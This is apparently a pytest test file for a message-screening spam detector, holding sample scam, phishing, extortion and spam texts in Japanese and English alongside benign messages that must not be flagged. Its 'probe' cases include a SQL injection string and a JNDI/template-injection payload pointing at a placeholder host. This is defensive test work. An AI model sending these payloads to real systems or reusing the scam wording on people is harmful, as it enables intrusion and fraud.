"""Machine and fraud text: each family whole, and everything that only looks like it."""

import pytest

from madoguchi.rooms.screening import model, reading, rules, spam
from tests.rooms.screening import items


def codes(text: str) -> list[str]:
    return [sign.code for sign in spam.signs(reading.read(text).plain)]


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ("markup", '<a href="https://a.example">cheap</a> <a href="https://b.example">bags</a>'),
        ("markup", "[url=https://a.example]best price[/url] [url=https://b.example]order[/url]"),
        ("probe", "1' UNION SELECT null,version()-- -"),
        ("probe", "{{7*7}} ${jndi:ldap://a.example/x}"),
        ("scam", "5000 dofollow backlinks only $9 https://a.example https://b.example"),
        ("scam", "Best casino bonus! free spins https://a.example/win"),
        ("links", "https://a.example/1 https://a.example/2 https://a.example/3"),
        ("foreign", "Лучшее онлайн казино, бонус за регистрацию https://a.example"),
        ("foreign", "代开各类发票,点数优惠,加微信"),
        ("foreign", "안전놀이터 추천 먹튀 없는 토토 카지노"),
        ("mashing", "asdkjh qwpoeiru zmxncb lkjhgfd"),
        ("mashing", "ああああああああsdfghjふぁああ"),
        ("mashing", "hTqWzLrPbXvNcKd"),
        ("inheritance", "余命わずかの未亡人です。遺産5億円をあなた様に受け取ってほしいのです。至急口座番号をお送りください。"),
        ("phishing", "お客様のカードが停止されました。24時間以内に本人確認のため暗証番号をご入力ください。https://a.example"),
        ("parcel", "お荷物を不在のため持ち帰りました。下記よりご確認ください。https://a.example/x"),
        ("prize", "厳正な抽選の結果、現金1億円が当選しました。手数料3,000円を至急お支払いください。"),
        ("side-job", "スマホだけで日給5万円!誰でも簡単。友だち追加はこちら https://a.example"),
        ("investment", "元本保証で月利30%。秘密の投資グループへ招待します。https://a.example"),
        ("extortion", "端末をハッキングし動画を録画しました。ビットコインを送らなければ連絡先に公開します。"),
        ("replica", "スーパーコピー時計 N級品 財布 激安通販"),
        ("loan", "ブラックOK!審査なしで50万円振込。無職でも可。"),
        ("bill", "料金の未納が確認されました。本日中に電子マネーでお支払いください。"),
        ("chief", "新しいチャットグループを作成し、QRコードを送ってください。"),
        ("mashing", "ああああああ てすと てすと 4567"),
        ("mashing", "ててててすすlkjhpoi"),
        ("money-for-love", "寂しい夜を過ごす方に500万円差し上げます。今すぐ登録→https://a.example"),
        ("windfall", "あなた様は支援金2億円の受取人に選出されました。本日中に送金手数料をお振込ください。"),
        ("threat", "あなたの端末を支配し、カメラの録画を持っています。暗号通貨で10万円を払いなさい。しない場合は全員に送ります。連絡先は把握しています。"),
        ("box-of-gold", "愛しい人、私は海外にいる軍医です。金の箱をあなたに送りたい。信頼できる方の住所と銀行を知りたいです。"),
        ("dead-client", "亡くなった顧客の口座に900万ドルがあります。あなたを相続人として送金します。秘密にして返信ください。"),
        ("mailbox", "貴社のメールは容量を超えました。24時間後に消去されます。下記よりパスワードをご入力ください。https://a.example"),
        ("locked", "お客様の会員資格は無効です。お支払い方法を更新し、セキュリティコードをご入力ください。https://a.example"),
        ("false-office", "国税の未払いがあります。本日中に納付しない場合は差し押さえます。納付はこちら https://a.example"),
        ("surely-rich", "絶対に損しない自動取引。元手1万円が7日で100万円。登録は https://a.example"),
        ("easy-money", "自宅で簡単、毎日3万円の収入。友だち追加はこちら https://a.example"),
        ("unpaid", "有料動画の未納料金につき、本日が最終期日です。ご連絡なき場合は財産を差し押さえます。至急お電話ください。"),
        ("pills", "精力増強 正規品 最安値 クリック→ https://a.example"),
        ("wallet-key", "ウォレットを検証します。シードフレーズを入力してください。https://a.example"),
        ("gift-cards", "今会議中です。ギフトカードを買って、裏面の番号を送ってください。他の人には内緒で。"),
        ("lawless-job", "高収入。荷物を受け取るだけ。テレグラムに連絡してください。"),
        ("infected", "お使いのパソコンからウイルスが検出されました。今すぐサポートへ電話してください。"),
        ("luck", "あなたの金運が開く鑑定。宝くじで億万長者に。今なら無料。登録はこちら https://a.example"),
        ("chain", "このメールを10人に送ってください。3日以内に送らないと不幸になります。"),
        ("shame", "恥ずかしい動画があります。5万円を払わなければネットに拡散します。"),
        ("domain", "貴社ドメインの有効期限が切れます。更新料9,800円を本日中にお支払いください。停止されます。https://a.example"),
        ("accounts", "使っていない口座を買い取ります。1つ5万、即金。通帳とカードを郵送してください。"),
        ("old-friend", "久しぶり、覚えてる?アドレス変えたよ。写真はここに置いたから見てね https://a.example"),
        ("replica", "ブランドコピー時計の専門店です。本物と区別できません。送料無料。"),
        ("mashing", "qqqeeerrr んんんん"),
        ("mashing", "ああああテスト"),
        ("mashing", "asdfgh ;lkj ああああ"),
        ("survey", "アンケートに答えると最新端末が100円。残り2名様。送料のカード番号はこちら https://a.example"),
        ("mailbox", "Your mailbox is full and will be closed today. Verify your password: https://a.example"),
        ("domain", "FINAL NOTICE: your domain expires tonight. Make the payment here https://a.example"),
        ("prize", "Congratulations! You have been selected for a $500 gift card. Complete the survey to claim."),
        ("loan", "Do you need an urgent loan at 3% interest, no collateral? Send full name, country and amount."),
        ("extortion", "I have full access to your database. Pay 0.3 BTC within 48 hours or all of it is leaked."),
        ("guest-post", "Dear admin, what is your price for a guest post with a casino link? I have 8,000 sites."),
        ("crowd", "Buy 20,000 real followers for $19, instant: https://a.example"),
        ("page-one", "Hello webmaster, we guarantee page 1 in 30 days. Reply YES."),
        ("flirt", "Hi handsome, I saw your profile, write me and I send private photos: anna@a.example"),
        ("games", "150 free spins, no deposit! Bonus code WIN150"),
        ("pills", "Cheap pills without prescription, overnight: https://a.example"),
        ("essays", "Buy essays, no plagiarism, best writers: https://a.example"),
        ("vice-list", "激安 コピー時計 オンラインカジノ おすすめ https://a.example"),
    ],
)  # fmt: skip
def test_each_family_is_known(code: str, text: str) -> None:
    assert code in codes(text)


@pytest.mark.parametrize(
    "text",
    [
        "こんな当選メールが届きました。現金1億円、手数料を振り込めとあります。御社からですか?https://a.example",
        "不在のため荷物を持ち帰ったというSMSが来ました。本物でしょうか。https://a.example/x",
        "カードの停止を知らせる偽サイトがあります。暗証番号の入力を求められます。https://a.example 24時間以内",
        "スマホの在宅の仕事を探しています。日給はいくらですか。",
        "祖父の遺産を相続しました。時計を受け取りたいのですが、手数料はかかりますか。",
        "ビットコインで支払えますか",
        "カジノのある船の旅はありますか。https://a.example",
        "Forum bug: [url=https://a.example]my build[/url] shows as plain text, expected a link.",
        "Do you have a casino night in the hotel? We are 12 people.",
        "Здравствуйте! У вас есть комната на двоих 3 мая? Спасибо",
        "你好,请问五月三日有房间吗?我们两个人。谢谢",
        "안녕하세요. 예약을 변경하고 싶습니다. 감사합니다.",
        "Please see our spec https://a.example/spec and drawing https://a.example/drawing and quote 300 pieces.",
        "有料会員の動画が見られません。未納と出ますがコンビニで払いました。最終期日は本日です。至急電話ください。",
        "カメラの録画データが消えました。3日以内に復旧できなければ別の業者に頼みます。費用は5万円まで払います。",
        "恥ずかしい写真を公開すると脅され、5万円を払わなければ拡散すると言われました。",
        "お客様のカードが使えないとレジで言われました。https://a.example で確認すると停止とのこと、本日手続きをお願いします。",
        "抽選で10万円が当選したはずですが、受け取りの期限が本日までとあります。口座は登録済みです。",
        "パソコンがウイルスに感染しました。至急サポートの電話をください。",
        "はじめまして。父の遺産の金貨の箱を預けたいのですが、住所と手数料を知りたいです。",
        "久しぶりに伺った山下です。覚えておられますか。先日の写真をお送りします https://a.example",
        "この口座はもう使っていないので、解約の書類を郵送してください。通帳は手元にあります。",
        "testさん www", "ははは www 了解",
        "ドメインの更新料3,300円を支払いましたが、期限切れで停止されました。確認してもらえますか。https://a.example",
        "店頭のアンケートの抽選で当たったギフト券が、まだ届きません。送料が要るのですか。残りの人数は?",
        "I received a mail that says my mailbox is full and wants my password at https://a.example. Is it from you?",
        "My mailbox is full since your migration and I cannot log in to change the password. Please help.",
        "Your domain renewal invoice of $15: I paid it on Monday, see https://a.example/r.png. Please confirm.",
        "Do you offer loans to foreigners? I would need about 30,000 USD, what interest would apply?",
        "Someone writes to our customers in your name: congratulations, you won a prize of $500, claim it here.",
        "Do you accept guest posts from customers? I would love to write about my repair.",
        "We run the casino floor of a cruise ship and want bonus cards printed. Code on the back. Price for 2,000?",
        "Can you send the pills of my dog overnight? The vet wrote the prescription on Friday.",
        "Our seo agency sees technical errors on your booking page: it shows 500 since noon.",
        "うううう test送信です test", "あああああもう!テストいつですか",
        "test", "テスト", "あ", "?", "🍣🍣🍣", "ありがとうございました", "でんわください", "ok", "Thanks", "hjk",
        "しめきりはいつですか", "ううううう腹立つ", "はははははは", "WWW", "O'Brien; please reply",
    ],
)  # fmt: skip
def test_who_reports_asks_or_is_only_foreign_short_or_odd_stays(text: str) -> None:
    assert codes(text) == []


def test_no_genuine_message_and_no_pitch_is_taken_for_spam() -> None:
    texts = items.bodies("genuine") + items.bodies("pitch") + [item["body"] for item in items.stress()]
    assert [text for text in texts if codes(text)] == []


def test_nearly_all_authored_spam_is_known() -> None:
    """Most by their family, and with the weights, which learned from these very texts, nearly all; what is short and
    odd (struck keys, tests of the form) is harmless and stays."""
    texts = items.bodies("spam")
    lanes = [rules.decide(rules.Message(text), weights=model.shipped()).lane for text in texts]
    assert sum(bool(codes(text)) for text in texts) / len(texts) >= 0.70
    assert sum(lane == rules.Lane.JUNK for lane in lanes) / len(texts) >= 0.93


@pytest.mark.parametrize(
    "text",
    [
        "「アカウントが停止されました。24時間以内に確認してください」と出ます。本物の画面ですか?",
        "お客様へのメールが「{{last_name}} 様」のまま送られてしまいました。取り消せますか!?",
        "Forum bug: [url=https://a.example]my build[/url] shows as raw text.",
    ],
)
def test_who_tells_of_such_a_text_is_not_its_sender(text: str) -> None:
    assert rules.decide(rules.Message(text), weights=model.shipped()).lane == rules.Lane.INBOX


@pytest.mark.parametrize(
    "text",
    [
        "てすと。届いたら返事して", "err 0x2A blnk?? pls help", "prices pls", "Free parking???",
        "¿Hacen envíos a Perú? Quiero comprar dos teteras de hierro como la de su página https://a.example",
        "Posso comprar pela internet e retirar na loja de vocês? Não falo japonês, desculpe a mensagem em português.",
    ],
)  # fmt: skip
def test_the_short_the_odd_and_other_languages_stay(text: str) -> None:
    assert rules.decide(rules.Message(text), weights=model.shipped()).lane == rules.Lane.INBOX


@pytest.mark.parametrize(
    "change", [str.upper, lambda text: text.replace(" ", "　"), lambda text: "　" + text + "\n"]
)
def test_width_and_space_change_nothing(change: object) -> None:
    assert callable(change)
    texts = [text for text in items.bodies("spam") if codes(text)]
    kept = [text for text in texts if codes(change(text))]
    assert len(kept) >= 0.97 * len(texts)
